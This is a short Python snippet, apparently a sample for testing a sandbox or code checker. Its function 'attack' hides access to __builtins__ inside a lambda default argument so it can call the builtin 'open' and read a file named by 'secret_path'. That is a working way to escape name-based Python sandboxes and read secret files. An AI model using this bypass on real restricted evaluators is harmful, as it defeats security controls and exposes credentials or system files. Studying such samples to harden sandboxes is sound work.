# Smuggles code into a default, and a name into a closure.
def attack(secret_path, reach=lambda name: (lambda: __builtins__)()):
    found = reach("")
    found = found if isinstance(found, dict) else vars(found)
    return found["open"](secret_path).read()
